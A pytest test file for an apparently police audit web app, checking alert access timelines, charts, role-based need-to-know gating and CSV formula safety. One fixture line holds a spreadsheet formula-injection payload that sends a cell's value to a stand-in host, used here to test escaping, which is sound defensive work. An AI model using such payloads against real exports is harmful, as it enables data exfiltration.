"""The CCU's view of an access alert (#19, report and web): the access timeline of the alert's user
for the alert's record, stored at run time (audit.store.access_timeline) and shown on the alert
page with a chart of accesses per day (audit.web.timeline); the peer-baseline chart hook; and
need-to-know: no other role reaches the alert, its timeline or its CSV by any route."""
from __future__ import annotations

import base64
import csv
import io
import re

import pandas as pd
import pytest

import seed
from audit.period import Period
from audit.store import trail
from audit.store.access_timeline import for_alert, record_access_timelines
from audit.store.record import RuleInfo, RunInput, SourceLoadInput, record_run
from audit.web import timeline, users
from audit.web.access import WITHHELD
from reports import charts
from rules.finding import Finding

PERIOD = "2026-11"
NO_WORK = RuleInfo(id="11111111-0000-4000-8000-000000000019", name="access_no_work_reason", version="c" * 64,
                   level="high", title="Vulnerable victim's record opened with no link to it",
                   description="A view of a vulnerable victim's record by a user with no link to it.",
                   runbook="Pull the user's access timeline for the record.",
                   registers=["system_access", "record_subjects", "workforce"], sensitivity="sensitive")
SELF = RuleInfo(id="11111111-0000-4000-8000-000000000020", name="access_self_search", version="d" * 64,
                level="medium", title="A search for one's own name", description="Self search.", runbook="Ask.",
                registers=["system_access", "workforce"], sensitivity="sensitive")
TRAWL = RuleInfo(id="11111111-0000-4000-8000-000000000021", name="access_trawling", version="e" * 64,
                 level="high", title="Views of vulnerable victims' records far above peers", description="Trawling.",
                 runbook="Compare with peers.", registers=["system_access", "record_subjects", "workforce"],
                 sensitivity="sensitive")
HOSTILE_SYSTEM = '=HYPERLINK("http://x.example/?"&A1,"crime")'

# The access log the run read: P3's accesses to CR1 (the timeline), and rows that must stay out of
# it: P4's access to CR1, P3's access to CR2, P3's search of no record.
LOG = [
    # access_id, person, date, time, system, action, record
    ("A1", "P3", "2026-11-02", "09:00:00", "crime", "view", "CR1"),
    ("A2", "P3", "2026-11-02", "14:30:00", "intelligence", "print", "CR1"),
    ("A3", "P3", "2026-11-05", "08:10:00", "crime", "view", "CR1"),
    ("A4", "P3", "2026-11-20", "23:55:00", HOSTILE_SYSTEM, "view", "CR1"),  # the cited one
    ("A5", "P3", "2026-11-21", "00:05:00", "crime", "export", "CR1"),
    ("A6", "P4", "2026-11-20", "10:00:00", "crime", "view", "CR1"),
    ("A7", "P3", "2026-11-20", "10:00:00", "crime", "view", "CR2"),
    ("A8", "P3", "2026-11-30", "11:00:00", "crime", "search", None),
]
P3_CR1 = ["A1", "A2", "A3", "A4", "A5"]
BASELINE = {"user_count": 42, "group": "Response, Central", "peer_mean": 6.5, "peer_sd": 3.1, "peer_count": 37}
Z = f"{(42 - 6.5) / 3.1:.1f}"


def access_frame() -> pd.DataFrame:
    rows = [{"fact_id": f"system_access:{a}", "_source": "access", "_file": "system_access.csv", "_row": i + 2,
             "access_id": a, "person_id": p, "person_key": p, "accessed_date": pd.Timestamp(d),
             "accessed_time": t, "system": s, "action": act, "record_id": r,
             "incident_id": f"INC-{r}" if r else None}
            for i, (a, p, d, t, s, act, r) in enumerate(LOG)]
    return pd.DataFrame(rows)


def access_run(store, *, timelines: bool = True, **caps) -> dict[str, int]:
    """Record a run of PERIOD with three access alerts (and the timelines, unless told not to);
    returns rule name -> alert id."""
    p = Period.parse(PERIOD)
    log = access_frame()
    cited = log[log["access_id"].isin(["A4", "A8"])].assign(register="system_access")
    findings = [
        Finding(rule_id=NO_WORK.id, rule_name=NO_WORK.name, rule_version=NO_WORK.version, level=NO_WORK.level,
                title="P3 opened CR1 on 2026-11-20", subject="P3", facts={"view": ("system_access:A4",)},
                dedup=("A4",), params={}, values={"view.record_id": "CR1"}, as_of=p.start),
        Finding(rule_id=SELF.id, rule_name=SELF.name, rule_version=SELF.version, level=SELF.level,
                title="P3 searched their own name", subject="P3", facts={"access": ("system_access:A8",)},
                dedup=("A8",), params={}, values={}, as_of=p.start),
        Finding(rule_id=TRAWL.id, rule_name=TRAWL.name, rule_version=TRAWL.version, level=TRAWL.level,
                title="P3 viewed 42 vulnerable victims' records", subject="P3", facts={"view": ("system_access:A4",)},
                dedup=("P3",), params={}, values={"peer_baseline": BASELINE}, as_of=p.start),
    ]
    src = SourceLoadInput(name="access", register="system_access", kind="csv", location="system_access.csv",
                          status="loaded", error=None, rows_read=len(log), rows_accepted=len(log), rows_quarantined=0)
    summary = record_run(store, RunInput(period=p, engine="reference", sources=[src], rules=[NO_WORK, SELF, TRAWL],
                                         findings=findings, facts=cited, links=pd.DataFrame(), people=seed.PEOPLE,
                                         status="succeeded", actor="test"))
    if timelines:
        record_access_timelines(store, summary.run_id, log, **caps)
    from audit.store.queries import list_alerts

    return {a.rule_name: a.id for a in list_alerts(store, period=PERIOD)} | {"run": summary.run_id}


def rows_of(html: str) -> list[tuple[str, bool]]:
    """(access id, cited) of each row of the page's timeline table, in order."""
    body = html.split('id="access-timeline"', 1)[1]
    return [(m.group(2), m.group(1) == "cited")
            for m in re.finditer(r'<tr class="(cited|other)">.*?<code>([^<]*)</code>', body)]


def chart_svgs(html: str) -> list[str]:
    return [base64.b64decode(m).decode("utf-8")
            for m in re.findall(r'<img class="chart-img" alt="[^"]*" src="data:image/svg\+xml;base64,([^"]+)"', html)]


# ---- the CCU sees it ----------------------------------------------------------------------------

def test_the_ccu_sees_every_access_of_the_user_to_the_record_and_only_those(client_for, store):
    ids = access_run(store)
    page = client_for("cara").get(f"/alerts/{ids['access_no_work_reason']}")
    assert page.status_code == 200 and 'id="access-timeline"' in page.text
    # P3's five accesses to CR1 in time order, the cited one marked; not P4's, not CR2, not the search
    assert rows_of(page.text) == [(a, a == "A4") for a in P3_CR1]
    for other in ("A6", "A7", "A8"):
        assert f"<code>{other}</code>" not in page.text
    assert "5 accesses from 2026-11-02 to 2026-11-30" in page.text  # the window the run read
    assert "Capped" not in page.text
    assert re.search(r"<h3>Officer 3[^<]*and record CR1</h3>", page.text)
    # the register's text is escaped, never markup
    assert "&#34;http://x.example" in page.text or "&quot;http://x.example" in page.text
    # the chart: one bar a day of the window the log covered, the cited day in red
    (svg,) = chart_svgs(page.text)
    assert svg.startswith("<svg") and "accesses to CR1, per day" in svg
    assert svg.count(f"fill: {charts.CITED}") >= 1


def test_an_access_alert_of_no_record_has_no_timeline_and_other_alerts_none_at_all(client_for, store):
    ids = access_run(store)
    cara = client_for("cara")
    assert 'id="access-timeline"' not in cara.get(f"/alerts/{ids['access_self_search']}").text  # a search
    assert 'id="access-timeline"' not in cara.get("/alerts/1").text  # a gift alert
    got = cara.get("/alerts/1/access-timeline.csv")
    assert got.status_code == 200 and len(got.text.strip().splitlines()) == 1  # the header only


def test_a_run_that_kept_no_timeline_says_so(client_for, store):
    ids = access_run(store, timelines=False)
    page = client_for("cara").get(f"/alerts/{ids['access_no_work_reason']}")
    assert 'id="access-timeline"' in page.text and "No timeline was recorded" in page.text
    assert rows_of(page.text) == [] and chart_svgs(page.text) == []


def test_capped_timelines_keep_the_cited_rows_and_count_every_day(client_for, store):
    ids = access_run(store, max_rows=2)
    page = client_for("cara").get(f"/alerts/{ids['access_no_work_reason']}")
    assert rows_of(page.text) == [("A1", False), ("A4", True)]  # cited first, then the earliest
    assert "showing 2 of 5 rows" in page.text
    (t,) = for_alert(store, ids["access_no_work_reason"]).pairs
    assert t.capped and t.total == 5 and sum(n for _, n in t.per_day) == 5
    assert dict(t.per_day) == {"2026-11-02": 2, "2026-11-05": 1, "2026-11-20": 1, "2026-11-21": 1}
    # past the run's row budget, a pair keeps its cited rows only
    access_run(store, budget=0)
    (t,) = for_alert(store, ids["access_no_work_reason"]).pairs
    assert [r.access_id for r in t.rows] == ["A4"] and t.total == 5


def test_a_rerun_replaces_the_periods_timelines(store):
    from sqlalchemy import func, select

    from audit.store.models import AccessTimeline

    first = access_run(store)["run"]
    second = access_run(store)["run"]
    with store.read() as s:
        runs = dict(s.execute(select(AccessTimeline.run_id, func.count()).group_by(AccessTimeline.run_id)).all())
    assert first != second and runs == {second: 1}


def test_the_timeline_csv_is_the_ccus_and_formula_safe(client_for, store):
    ids = access_run(store)
    alert = ids["access_no_work_reason"]
    got = client_for("cara").get(f"/alerts/{alert}/access-timeline.csv")
    assert got.status_code == 200 and got.headers["content-disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(got.content.decode("utf-8-sig"))))
    assert [r["access_id"] for r in rows] == P3_CR1
    assert [r["access_id"] for r in rows if r["cited"] == "true"] == ["A4"]
    hostile = next(r for r in rows if r["access_id"] == "A4")
    assert hostile["system"] == "'" + HOSTILE_SYSTEM  # never read as a formula
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    assert trail.events(store, action="alert.timeline_download", obj=f"alert:{alert}")[0]["actor"] == "cara"


# ---- nobody else does ---------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["rob", "rita", "boss", "dora", "aude", "adam"])
def test_no_other_role_reaches_the_alert_its_timeline_or_its_csv(client_for, store, name):
    ids = access_run(store)
    cara = client_for("cara")
    cara.get(f"/alerts/{ids['access_no_work_reason']}")  # the CCU's view is an event in the trail
    c = client_for(name)
    secrets = ["A1</code>", "A5</code>", "CR1", "access-timeline", "Access timeline", "peer-baseline",
               "access_no_work_reason", "access_trawling"]
    # first the trail (later it lists this user's own probes below, with the URLs they typed)
    trail_page = c.get("/trail")
    assert not any(s in trail_page.text for s in secrets), name
    if name == "aude":  # the auditor reads the trail: the CCU's view of the alert is withheld
        views = [e for e in trail.events(store, action="alert.view") if e["actor"] == "cara"]
        assert views and f"alert:{ids['access_no_work_reason']}" in {e["object"] for e in views}
        assert trail_page.status_code == 200 and WITHHELD in trail_page.text
    for rule in ("access_no_work_reason", "access_self_search", "access_trawling"):
        alert = ids[rule]
        page = c.get(f"/alerts/{alert}")
        assert page.status_code in (403, 404), (rule, page.status_code)
        assert not any(s in page.text for s in secrets)
        got = c.get(f"/alerts/{alert}/access-timeline.csv")
        assert got.status_code in (403, 404) and "A4" not in got.text
    listings = [c.get(u) for u in ("/alerts", "/alerts?register=system_access", f"/alerts?period={PERIOD}",
                                   "/alerts?rule=access_no_work_reason", "/people/P3", "/runs",
                                   f"/runs/{ids['run']}", f"/runs/{ids['run']}/report", "/")]
    for r in listings:
        assert not any(s in r.text for s in secrets), (name, r.url)
        for alert in (ids["access_no_work_reason"], ids["access_trawling"]):
            assert f'href="/alerts/{alert}"' not in r.text, (name, r.url)


def test_a_ccu_user_never_sees_the_timeline_of_an_alert_about_themselves(client_for, store):
    ids = access_run(store)
    users.add_user(store, "cuth", "ccu", seed.PASSWORD, actor="test", person_id="P3")
    c = client_for("cuth")
    assert c.get(f"/alerts/{ids['access_no_work_reason']}").status_code == 404
    got = c.get(f"/alerts/{ids['access_no_work_reason']}/access-timeline.csv")
    assert got.status_code == 404 and "A4" not in got.text


def test_the_timeline_is_withheld_from_a_user_without_need_to_know_even_given_the_alert(store):
    """The second gate (audit.web.access.sees_sensitive) holds on its own: a reviewer handed the
    alert object still gets no timeline."""
    from audit.store.queries import alert_view
    from audit.web.users import User

    ids = access_run(store)
    a = alert_view(store, ids["access_no_work_reason"])
    reviewer = next(u for u in users.list_users(store) if u.name == "rob")
    ccu = next(u for u in users.list_users(store) if u.name == "cara")
    assert isinstance(reviewer, User)
    assert timeline.for_alert(store, reviewer, a) is None
    assert timeline.for_alert(store, ccu, a) is not None


# ---- the peer baseline hook ---------------------------------------------------------------------

def test_the_ccu_sees_a_trawling_alerts_peer_baseline_as_a_chart(client_for, store):
    ids = access_run(store)
    page = client_for("cara").get(f"/alerts/{ids['access_trawling']}")
    assert 'id="peer-baseline"' in page.text
    assert f"their 37 peers in Response, Central: mean 6.5, standard deviation 3.1 (z = {Z})" in page.text
    svgs = chart_svgs(page.text)
    assert any(f"42 (z = {Z})" in s for s in svgs)


def test_peer_baseline_reads_a_whole_dict_or_flat_values_and_says_what_is_missing():
    assert charts.peer_baseline_of({"peer_baseline": BASELINE}) == BASELINE
    # the figures access_peer_trawling stores with its evidence (rules.model.PEER_FIGURES)
    flat = {"value": 12, "peers.mean": 4.0, "peers.sd": 2.0, "peers.count": 9, "peers.group": "CID / Constable",
            "peers.threshold": 10.0, "view.record_id": "CR1"}
    assert charts.peer_baseline_of(flat) == {"user_count": 12, "peer_mean": 4.0, "peer_sd": 2.0,
                                                "peer_count": 9, "group": "CID / Constable"}
    assert charts.peer_baseline_of({"view.record_id": "CR1"}) is None
    shown = timeline.peer_view(flat, "Officer 3")
    assert shown["problem"] is None and shown["baseline"]["z"] == pytest.approx(4.0)
    assert 'alt="Officer 3: 12 against their peers' in shown["chart"]
    bad = timeline.peer_view({"peer_baseline": {**BASELINE, "peer_sd": "n/a"}})
    assert bad["chart"] == "" and "peer_sd is not a number" in bad["problem"]
    with pytest.raises(ValueError, match="lacks peer_count"):
        charts.peer_baseline({"user_count": 1, "group": "g", "peer_mean": 1, "peer_sd": 1})


def test_peer_counts_give_the_mean_and_sd_and_each_peer_is_drawn():
    counts = [2, 4, 4, 4, 5, 5, 7, 9]  # mean 5, population sd 2
    b = charts.peer_baseline({"user_count": 15, "group": "Response", "peer_counts": counts})
    assert (b["peer_mean"], b["peer_sd"], b["peer_count"], b["z"]) == (5.0, 2.0, 8, 5.0)
    svg = charts.peer_baseline_chart({"user_count": 15, "group": "Response", "peer_counts": counts})
    assert svg.startswith("<svg") and "15 (z = 5.0)" in svg and "mean 5.0, sd 2.0" in svg
    assert svg == charts.peer_baseline_chart({"user_count": 15, "group": "Response", "peer_counts": counts})


def test_the_daily_chart_has_a_bar_for_every_day_of_the_window():
    days = charts._days([("2026-11-03", 2), ("2026-11-20", 1)], "2026-11-01", "2026-11-30")
    assert len(days) == 30 and days[0] == ("2026-11-01", 0) and dict(days)["2026-11-03"] == 2
    assert sum(n for _, n in days) == 3
    # a day outside the window given still shows
    assert charts._days([("2026-12-02", 1)], "2026-11-29", "2026-11-30")[-1] == ("2026-12-02", 1)
    svg = charts.daily_accesses_chart([("2026-11-03", 2), ("2026-11-20", 1)], "t", marked={"2026-11-20"},
                                      start="2026-11-01", end="2026-11-30")
    plain = charts.daily_accesses_chart([("2026-11-03", 2), ("2026-11-20", 1)], "t",
                                        start="2026-11-01", end="2026-11-30")
    assert charts.CITED in svg and charts.CITED not in plain



def test_an_alert_citing_many_records_draws_the_busiest_and_lists_the_rest(client_for, store):
    """A trawling alert cites a view of each of many records: the page draws the PAIRS_DRAWN with
    the most accesses and lists the others with their counts; the CSV has every row."""
    p = Period.parse(PERIOD)
    n = timeline.PAIRS_DRAWN + 2
    rows = [{"fact_id": f"system_access:V{i}-{k}", "_source": "access", "_file": "system_access.csv",
             "_row": 10 * i + k,
             "access_id": f"V{i}-{k}", "person_id": "P3", "person_key": "P3",
             "accessed_date": pd.Timestamp(f"2026-11-{k + 1:02d}"), "accessed_time": "10:00:00", "system": "crime",
             "action": "view", "record_id": f"REC{i:02d}"}
            for i in range(n) for k in range(1 + (i == 5) * 3 + (i == n - 1) * 2)]  # REC05: 4, REC11: 3
    log = pd.DataFrame(rows)
    cited = log[log["access_id"].str.endswith("-0")].assign(register="system_access")
    f = Finding(rule_id=TRAWL.id, rule_name=TRAWL.name, rule_version=TRAWL.version, level=TRAWL.level,
                title="P3 viewed 12 vulnerable victims' records", subject="P3",
                facts={"view": tuple(sorted(cited["fact_id"]))}, dedup=("P3",), params={},
                values={"peer_baseline": BASELINE}, as_of=p.start)
    summary = record_run(store, RunInput(period=p, engine="reference", sources=[], rules=[TRAWL], findings=[f],
                                         facts=cited, links=pd.DataFrame(), people=seed.PEOPLE,
                                         status="succeeded", actor="test"))
    record_access_timelines(store, summary.run_id, log)
    from audit.store.queries import list_alerts

    (alert,) = [a.id for a in list_alerts(store, period=PERIOD)]
    cara = client_for("cara")
    page = cara.get(f"/alerts/{alert}").text
    drawn = re.findall(r'<article class="timeline" data-user="P3" data-record="(REC\d+)">', page)
    assert len(drawn) == timeline.PAIRS_DRAWN and drawn[:2] == ["REC05", f"REC{n - 1:02d}"]  # busiest first
    assert len(chart_svgs(page)) == timeline.PAIRS_DRAWN + 1  # + the peer baseline
    more = page.split('id="timeline-more"')[1]
    listed = re.findall(r"<tr><td>P3</td><td>(REC\d+)</td><td class=\"num\">1</td>", more)
    assert len(listed) == 2 and not set(listed) & set(drawn)
    got = cara.get(f"/alerts/{alert}/access-timeline.csv").content.decode("utf-8-sig")
    got = list(csv.DictReader(io.StringIO(got)))
    assert sorted(r["access_id"] for r in got) == sorted(log["access_id"])


def test_a_log_missing_the_cited_row_records_no_timeline_rather_than_a_short_one(client_for, store):
    """Given a pruned access log (here: without the cited row), the pair is not recorded and the
    page says so; a run given no access log at all records nothing."""
    ids = access_run(store, timelines=False)
    log = access_frame()
    summary = record_access_timelines(store, ids["run"], log[log["access_id"] != "A4"])
    assert (summary.pairs, summary.missing) == (0, 1)
    assert record_access_timelines(store, ids["run"], None).pairs == 0
    page = client_for("cara").get(f"/alerts/{ids['access_no_work_reason']}").text
    assert "No timeline was recorded" in page and rows_of(page) == []


def test_timelines_are_stored_and_read_back_the_same_on_postgresql(pg_store):
    ids = access_run(pg_store, max_rows=3)
    (t,) = for_alert(pg_store, ids["access_no_work_reason"]).pairs
    assert [(r.access_id, r.cited) for r in t.rows] == [("A1", False), ("A2", False), ("A4", True)]
    assert t.total == 5 and t.capped and str(t.window_from) == "2026-11-02" and str(t.window_to) == "2026-11-30"
    second = access_run(pg_store)["run"]  # a rerun replaces them
    assert for_alert(pg_store, ids["access_no_work_reason"]).run_id == second
